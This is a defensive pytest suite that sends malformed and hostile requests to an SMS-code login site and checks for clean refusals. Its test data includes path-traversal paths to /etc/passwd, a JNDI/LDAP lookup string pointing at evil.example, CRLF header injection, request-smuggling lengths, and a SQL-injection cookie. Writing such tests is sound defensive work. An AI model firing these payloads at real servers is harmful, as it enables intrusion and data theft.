"""What visitors, programs and attackers send: always a clear answer, never a 500, never a traceback in the log."""

from __future__ import annotations

import json
import re
import socket
import time
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import httpx
import pytest

from tests.support.codes import code_for
from tests.support.numbers import number
from tests.support.production import PRODUCTION
from tests.support.stack import Stack

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.support.person import Person

JSON = {"Accept": "application/json", "Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
PATHS = ("/login/", "/code/", "/login/code/", "/logout/")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    """A site as it stands in the world: without DEBUG."""
    with Stack(tmp_path_factory.mktemp("site"), workers=0, **PRODUCTION) as stack:
        yield stack


@pytest.fixture
def person(site: Stack) -> Iterator[Person]:
    """A visitor with a token."""
    made = site.person()
    assert made.token
    yield made
    made.close()


@pytest.fixture(autouse=True)
def quiet(site: Stack) -> Iterator[None]:
    """Whatever a test sends: the log stays free of tracebacks, and the server goes on."""
    before = len(site.logs())
    yield
    assert site.get("/healthz").status_code == 200
    assert "Traceback" not in site.logs()[before:], site.logs()[before:]


def raw(site: Stack, head: str | bytes, body: bytes = b"", *, seconds: float = 10) -> tuple[int, bytes]:
    """Send bytes as they are; return the status (0 when the connection is closed without one) and the whole answer."""
    head = head.encode("latin-1") if isinstance(head, str) else head
    answer = b""
    with socket.create_connection(("127.0.0.1", site.ports[0]), timeout=seconds) as connection:
        try:
            connection.sendall(head.replace(b"\n", b"\r\n") + b"\r\n\r\n" + body)
            while part := connection.recv(65536):
                answer += part
        except (ConnectionResetError, BrokenPipeError):
            pass
    found = re.match(rb"HTTP/1\.[01] ([0-9]{3})", answer)
    return (int(found[1]) if found else 0), answer


# --- Numbers and codes ---


@pytest.mark.parametrize(
    "mobile",
    ["", " ", "1", "abc", "13800138", "138001380000", "23800138000", "+8613800138", "٠١٢٣٤٥٦٧٨٩٠", "1e10",
     "138\n00138000", "13800138000\x00", "\x0013800138000", "13800138000;DROP", "tel:13800138000", "13800138000x5",
     "１３８００１３８００", "𝟙𝟛𝟠", "1" * 65, "9" * 50_000, "+", "+++8613800138000", "-13800138000",
     "1380013800O", "<b>13800138000</b>", "null", "{}"],
)  # fmt: skip
def test_what_is_no_number_is_told_so(site: Stack, person: Person, mobile: str) -> None:
    """T-79, T-80: digits of other scripts, control characters, look-alikes."""
    before = len(site.deliveries())
    answer = person.ask(mobile)
    assert answer.status_code == 422
    assert answer.json()["code"] == ("MOBILE_FORMAT" if mobile.strip() else "PARAM_MISSING")
    assert person.htmx("/code/", mobile=mobile).status_code == 422
    assert person.page("/code/", mobile=mobile).status_code == 422
    assert len(site.deliveries()) == before


@pytest.mark.parametrize(
    "code",
    ["123456\n", "\n123456", "+123456", "-12345", "0123456", "12345", "1234567", "1e5",
     "0x1E240", "123456\x00", "12345a", "123_456", "123456123457", "123456123456123456", "一二三四五六", "①②③④⑤⑥a",
     "null", "true", "{}", "9" * 60_000, "12.3456"],
)  # fmt: skip
def test_what_is_no_code_is_refused_and_costs_no_try(site: Stack, person: Person, code: str) -> None:
    """T-25, T-79: one answer for all of them."""
    mobile = number()
    person.ask(mobile)
    answer = person.enter(code)
    assert (answer.status_code, answer.json()["code"]) == (422, "SMS_CODE_WRONG")
    assert "tries_left" not in answer.json()
    right = code_for(site, mobile)
    assert person.enter(f"{(int(right) + 1) % 1_000_000:06}").json()["tries_left"] == 4
    assert person.enter(f" {right[:3]} {right[3:]} ").status_code == 200, "spaces are how people copy a code"


ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
WIDE = str.maketrans("0123456789", "０１２３４５６７８９")


@pytest.mark.parametrize(
    "spelling",
    [
        pytest.param(lambda code: code * 2, id="twice"),
        pytest.param(lambda code: f"{code[:3]} {code[3:]}" * 2, id="twice, with a space"),
        pytest.param(lambda code: f"{code[:3]}\u2013{code[3:]}", id="en dash"),
        pytest.param(lambda code: f"{code[:3]}\u2212{code[3:]}", id="minus"),
        pytest.param(lambda code: f"{code[:3]}\u3000{code[3:]}", id="full-width space"),
        pytest.param(lambda code: f"\u202d{code}\u202c\u200b", id="invisible marks"),
        pytest.param(lambda code: "\ufeff" + code, id="byte order mark"),
        pytest.param(lambda code: code.translate(ARABIC), id="Arabic-Indic"),
        pytest.param(lambda code: code.translate(WIDE), id="full-width"),
    ],
)
@pytest.mark.parametrize("kind", ["json", "page", "htmx"])
def test_a_code_is_read_as_keyboards_and_people_write_it(
    site: Stack, person: Person, spelling: Callable[[str], str], kind: str
) -> None:
    """The six digits are the code, whatever stands between them or fills them in twice; for programs as well."""
    mobile = number()
    person.ask(mobile)
    said = spelling(code_for(site, mobile))
    match kind:
        case "json":
            assert person.enter(said).status_code == 200
        case "page":
            assert person.page("/login/code/", code=said).status_code == 302
        case "htmx":
            assert "HX-Redirect" in person.htmx("/login/code/", code=said).headers


def test_a_field_that_comes_twice_is_one_field(site: Stack, person: Person) -> None:
    """T-25: `code=1&code=2` is one guess, and two numbers are one SMS."""
    mobile, other = number(), number()
    headers = {**FORM, "Accept": "application/json", "X-CSRFToken": person.token}
    assert person.http.post("/code/", content=f"mobile={other}&mobile={mobile}", headers=headers).status_code == 202
    assert [row["mobile"] for row in site.deliveries()][-1:] == [f"+86{mobile}"]
    right = code_for(site, mobile)
    wrong = f"{(int(right) + 1) % 1_000_000:06}"
    answer = person.http.post("/login/code/", content=f"code={right}&code={wrong}", headers=headers)
    assert answer.json()["tries_left"] == 4
    assert person.enter(right).status_code == 200


# --- Bodies ---


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("headers", [FORM, JSON, {"Content-Type": "multipart/form-data; boundary=x"}, {}])
def test_ten_megabytes_are_refused(person: Person, path: str, headers: dict[str, str]) -> None:
    """T-34, T-81: by their length, before anything is done with them."""
    body = b"mobile=" + b"1" * 10_000_000
    answer = person.http.post(path, content=body, headers={**headers, "X-CSRFToken": person.token})
    assert 400 <= answer.status_code < 500 or (path == "/logout/" and answer.status_code in {200, 302})
    assert len(answer.content) < 100_000


@pytest.mark.parametrize("path", PATHS)
def test_a_hundred_thousand_fields_are_refused(person: Person, path: str) -> None:
    """T-81."""
    for body in ("&".join(f"f{n}=1" for n in range(100_000)), "&".join(f"f{n}=" for n in range(200))):
        answer = person.http.post(path, content=body, headers={**FORM, "Accept": "application/json"})
        assert 400 <= answer.status_code < 500
    assert person.http.get(path, params={f"f{n}": "1" for n in range(200)}).status_code in {200, 400, 405}


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"nonsense", b"[]", b"null", b"1", b'"text"', b"NaN", b"[" * 60_000, b'{"mobile":' * 5000, b"\xff\xfe",
     b'{"mobile": null}', b'{"mobile": 13800138000}', b'{"mobile": ["13800138000"]}', b'{"mobile": {"a": "b"}}',
     b'{"mobile": 1e999}', b'{"mobile": NaN}', b'{"mobile": "\\ud800"}', b'{"\\udfff": "x", "mobile": "1"}',
     b'{"mobile": "\\u0000"}', b'{"mobile": "1", "mobile": 2}', b"\x00", b"1" * 5000],
)  # fmt: skip
@pytest.mark.parametrize("path", PATHS[:3])
def test_json_that_is_none_of_ours_is_answered_in_json(person: Person, path: str, body: bytes) -> None:
    """T-81: always a code and a message: 400 for what cannot be read, 422 for what is wrong in it."""
    answer = person.http.post(path, content=body, headers={**JSON, "X-CSRFToken": person.token})
    assert answer.status_code in {400, 422}
    assert set(answer.json()) >= {"code", "errmsg"}
    assert answer.json()["code"] != "OK"


@pytest.mark.parametrize(
    "field", ["username", "password", "next", "mobile", "code", "purpose", "remembered", "unknown"]
)
@pytest.mark.parametrize(
    "text", ["\ud800", "abc\udfffdefgh", "\x00", "a\x00bcdefgh", "\u202e", "\uffff", "😀" * 20, "a" * 60_000]
)
def test_no_text_in_any_field_breaks_anything(person: Person, field: str, text: str) -> None:
    """T-80: lone surrogates, NUL, direction marks, long ones: as JSON, as a form."""
    # Only these two get as far as the hash, which is slow.
    name = "nobody-here" if field in {"password", "next"} else "x"
    fields = {"username": name, "password": "a password", "mobile": "1", "code": "1", field: text}
    for path in PATHS[:3]:
        content = json.dumps(fields).encode()
        answer = person.http.post(path, content=content, headers={**JSON, "X-CSRFToken": person.token})
        assert answer.status_code in {400, 422}, path
        assert answer.json()["code"] != "OK"
    form = "&".join(f"{key}={quote(value.encode('utf-8', 'surrogatepass'))}" for key, value in fields.items())
    for path in PATHS[:3]:
        for accept in ("application/json", "text/html"):
            headers = {**FORM, "Accept": accept, "X-CSRFToken": person.token}
            assert person.http.post(path, content=form, headers=headers).status_code in {400, 422}, path


@pytest.mark.parametrize(
    "content_type",
    [
        "text/plain",
        "text/xml",
        "application/octet-stream",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=\xff",
        "application/x-www-form-urlencoded; charset=nonsense",
        "application/json; charset=utf-7",
        "application/json; charset=utf-16",
        "application/x-www-form-urlencoded; charset=utf-16",
        "x",
        "/",
        ";",
        "a" * 9000,
        "application/json;" + "a=b;" * 500,
        "text/html; q*=nonsense'en'x",
    ],
)
@pytest.mark.parametrize("path", PATHS[:3])
def test_a_strange_content_type_is_no_trouble(person: Person, path: str, content_type: str) -> None:
    headers = {
        "Content-Type": content_type.encode("latin-1"),
        "X-CSRFToken": person.token,
        "Accept": "application/json",
    }
    answer = person.http.post(path, content=b"mobile=1&code=1", headers=headers)  # type: ignore[arg-type]
    assert 400 <= answer.status_code < 500, answer.text


def test_a_broken_multipart_body_is_no_trouble(person: Person) -> None:
    for body in (
        b"--x\r\n",
        b"--x\r\nContent-Disposition: form-data; name=mobile\r\n\r\n1",
        b"--x--",
        b"\x00" * 1000,
        b"--x\r\nContent-Disposition: form-data; name*=nonsense'en'mobile\r\n\r\n1\r\n--x--\r\n",
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nabc\r\n--x--\r\n',
    ):
        headers = {"Content-Type": "multipart/form-data; boundary=x", "X-CSRFToken": person.token}
        try:
            answer = person.http.post("/code/", content=body, headers=headers)
        except httpx.RemoteProtocolError:
            # Twisted reads such a body before us and hangs up on what it cannot read.
            continue
        assert 400 <= answer.status_code < 500, body


def test_a_chunked_body_is_read(site: Stack, person: Person) -> None:
    """WSGI sees no body without a length; some webhook senders and curl send none."""
    mobile = number()
    body = f"mobile={mobile}".encode()
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (body[:4], body[4:])) + b"0\r\n\r\n"
    status, answer = raw(site, f"{head(person, '/code/')}\nTransfer-Encoding: chunked\nConnection: close", chunks)
    assert (status, b'"state": "queued"' in answer) == (202, True), answer
    assert site.deliveries()[-1]["mobile"] == f"+86{mobile}"


def test_a_chunked_body_has_the_same_limit(site: Stack, person: Person) -> None:
    """T-81."""
    part = b"10000\r\n" + b"1" * 65536 + b"\r\n"
    chunks = b"7\r\nmobile=\r\n" + part * 64 + b"0\r\n\r\n"
    status, _ = raw(site, f"{head(person, '/code/')}\nTransfer-Encoding: chunked\nConnection: close", chunks)
    assert status == 400


def head(person: Person, path: str, *, kind: str = FORM["Content-Type"]) -> str:
    """Return the head of a post, less what says how long it is."""
    return (
        f"POST {path} HTTP/1.1\nHost: {person.http.base_url.netloc.decode()}\nAccept: application/json\n"
        f"Cookie: csrftoken={person.token}\nX-CSRFToken: {person.token}\nContent-Type: {kind}"
    )


@pytest.mark.parametrize(
    "length", ["-1", "abc", "1e3", "99999999999999999999", "10, 20", "+5", " ", "5\nContent-Length: 6",
               "5\nTransfer-Encoding: chunked"],
)  # fmt: skip
def test_a_false_length_is_no_trouble(site: Stack, person: Person, length: str) -> None:
    """And no second request hides in the first."""
    hidden = b"0\r\n\r\nGET /readyz HTTP/1.1\r\nHost: x\r\n\r\n"
    try:
        status, answer = raw(
            site, f"{head(person, '/code/')}\nContent-Length: {length}\nConnection: close", hidden, seconds=2
        )
    except TimeoutError:
        return
    assert status in {0, *range(400, 500)}, answer
    assert answer.count(b"HTTP/1.1 ") <= 1


# --- Addresses, headers, cookies ---


@pytest.mark.parametrize(
    "target",
    [
        "/login/?next=\xff\xfe",
        "/login/?next=%ff%fe",
        "/login/?next=%",
        "/login/?%00=%00",
        "/?" + "a" * 8000,
        "/%ff",
        "/%00",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/../../etc/passwd",
        "//evil.example/",
        "/static/../project/settings.py",
        "/static/%2e%2e/project/settings.py",
        "/login/\xe9",
        "/%c0%ae",
        "/" + "a/" * 3000,
        "http://evil.example/login/",
        "*",
        "/login/;a=b",
        "/login/%0d%0aSet-Cookie:%20a=b",
        "/static/%00",
        "/static/a%00b.css",
        "/admin/%00",
        "/receipts/%ff/%00/",
        "/i18n/%00",
    ],
)
def test_a_strange_address_is_no_trouble(site: Stack, target: str) -> None:
    """T-80."""
    status, answer = raw(site, f"GET {target} HTTP/1.1\nHost: 127.0.0.1\nConnection: close")
    assert status in {0, 200, 302, *range(400, 500)}, answer
    assert b"root:" not in answer
    assert b"SECRET_KEY" not in answer
    assert b"\r\nSet-Cookie: a=b" not in answer


@pytest.mark.parametrize(
    "name",
    [
        "Accept",
        "Accept-Language",
        "User-Agent",
        "Referer",
        "Cookie",
        "X-Forwarded-For",
        "HX-Request",
        "HX-Current-URL",
        "X-CSRFToken",
        "Origin",
        "Content-Type",
        "If-Modified-Since",
        "Range",
    ],
)
@pytest.mark.parametrize(
    "value",
    [
        "\xff\xfe\x80",
        "a" * 12_000,
        ";q=x",
        "text/html;q*=nonsense'en'1",
        "," * 5000,
        "*" * 300,
        "a=b;" * 3000,
        '"\\000\\377"',
        "${jndi:ldap://evil.example/a}",
        "bytes=9-1",
    ],
)
def test_a_strange_header_is_no_trouble(site: Stack, name: str, value: str) -> None:
    """T-80."""
    for method, path in (("GET", "/login/"), ("POST", "/code/"), ("GET", "/state/"), ("GET", "/static/latchkey.css")):
        request = f"{method} {path} HTTP/1.1\nHost: 127.0.0.1\n{name}: {value}\nContent-Length: 0\nConnection: close"
        status, answer = raw(site, request)
        assert status in {0, 200, 206, 304, *range(400, 500)}, (method, path, answer[:500])


@pytest.mark.parametrize("cookie", ["sessionid", "csrftoken", "django_language", "username", "messages", "wait"])
def test_a_strange_cookie_is_no_trouble(site: Stack, cookie: str) -> None:
    """T-80."""
    for value in ("", "a", "a" * 5000, "\xff", '"\\000"', "../../etc/passwd", "' OR 1=1 --", "%00", "zh-hans\\n"):
        for path in ("/", "/state/"):
            status, answer = raw(
                site, f"GET {path} HTTP/1.1\nHost: 127.0.0.1\nCookie: {cookie}={value}\nConnection: close"
            )
            assert status in {200, 400}, (value, answer[:500])


def test_huge_headers_are_refused(site: Stack) -> None:
    """T-81."""
    many = "\n".join(f"X-{n}: {'a' * 100}" for n in range(2000))
    for headers in (many, f"X-Big: {'a' * 200_000}", f"Cookie: {'a' * 60_000}"):
        status, _ = raw(site, f"GET / HTTP/1.1\nHost: 127.0.0.1\n{headers}\nConnection: close")
        assert status in {0, *range(400, 500)}


def test_a_foreign_host_is_not_answered(site: Stack) -> None:
    """T-14, T-83: a wrong name gets one of our pages and no way into anything."""
    for host in (
        "evil.example",
        "127.0.0.1@evil.example",
        "127.0.0.1.evil.example",
        "",
        "[::1",
        "127.0.0.1:abc",
        "*",
        "a\xff",
    ):
        status, answer = raw(site, f"GET /login/ HTTP/1.1\nHost: {host}\nConnection: close")
        assert status == 400, host
        assert b"csrfmiddlewaretoken" not in answer


def test_a_header_with_an_underscore_is_not_the_one_with_a_dash(tmp_path_factory: pytest.TempPathFactory) -> None:
    """T-82: WSGI makes one name of both: what a proxy of ours has set could be overwritten by a visitor."""
    seen: dict[str, Any] = {"X-Forwarded-For": "198.51.100.1"}
    elsewhere: dict[str, Any] = {"X-Forwarded-For": "198.51.100.5"}
    with Stack(tmp_path_factory.mktemp("proxied"), TRUSTED_PROXIES="1", SMS_PER_IP_HOUR="1", workers=0) as stack:
        assert stack.person(**seen).ask(number()).status_code == 202
        for name in ("X_Forwarded_For", "X_FORWARDED_FOR", "X-Forwarded_For"):
            assert stack.person(**{**seen, name: "198.51.100.2"}).ask(number()).status_code == 429
        assert stack.person(**elsewhere).ask(number()).status_code == 202, (
            "who is seen elsewhere has a limit of his own"
        )
        # A token that comes as X_CSRFToken is none.
        person = stack.person()
        answer = person.http.post("/code/", data={"mobile": number()}, headers={"X_CSRFToken": person.token})
        assert answer.status_code == 403


@pytest.mark.parametrize("value", ["//evil.example", "/evil", "%2f%2fevil.example", "/login"])
def test_nobody_moves_the_site_by_a_header(site: Stack, value: str) -> None:
    """T-82, D-6: daphne itself would believe this header."""
    for path in ("/login/", "/"):
        plain = httpx.get(f"{site.url}{path}", verify=False)
        moved = httpx.get(f"{site.url}{path}", headers={"Daphne-Root-Path": value, "Script-Name": value}, verify=False)
        assert moved.status_code == plain.status_code == 200
        assert "evil" not in moved.text
        assert re.findall(r'(?:href|action|src)="([^"]*)"', moved.text) == re.findall(
            r'(?:href|action|src)="([^"]*)"', plain.text
        )


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "FOO", "PROPFIND", "G" * 1000])
def test_an_unknown_method_is_refused(site: Stack, method: str) -> None:
    for path in ("/", "/login/", "/code/", "/state/", "/static/latchkey.css"):
        status, _ = raw(site, f"{method} {path} HTTP/1.1\nHost: 127.0.0.1\nConnection: close")
        assert status in {0, *range(400, 500)}, path


def test_what_is_no_http_is_dropped(site: Stack) -> None:
    for noise in (
        b"\x00" * 1000,
        b"\x16\x03\x01\x02\x00\x01\x00",
        b"GET",
        b"GET / HTTP/9.9",
        b"GET  / HTTP/1.1",
        b"\n\n\n",
    ):
        started = time.monotonic()
        try:
            status, _ = raw(site, noise, seconds=1)
        except TimeoutError:
            continue
        assert status in {0, *range(400, 500)} or noise.startswith(b"GET /"), noise
        assert time.monotonic() - started < 5


def test_the_server_has_had_enough_practice(site: Stack) -> None:
    """After everything above: nothing of it made an account, and the first visitor is served."""
    assert site.rows("SELECT 1 FROM accounts_user WHERE username LIKE 'nobody%'") == []
    person, mobile = site.person(), number()
    assert person.ask(mobile).status_code == 202
    assert person.enter(code_for(site, mobile)).status_code == 200
